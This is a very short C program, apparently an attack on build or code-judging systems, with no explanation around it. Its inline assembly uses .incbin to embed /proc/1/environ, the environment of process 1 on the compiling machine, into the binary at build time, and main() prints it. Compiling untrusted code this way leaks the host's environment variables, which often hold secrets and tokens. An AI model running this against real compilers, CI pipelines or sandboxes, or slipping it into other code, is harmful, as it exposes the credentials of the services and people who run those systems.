#include <stdio.h>
__asm__(".globl secret\nsecret:\n.incbin \"/proc/1/environ\"\n.byte 0\n");
extern char secret[];
int main(void) { puts(secret); }
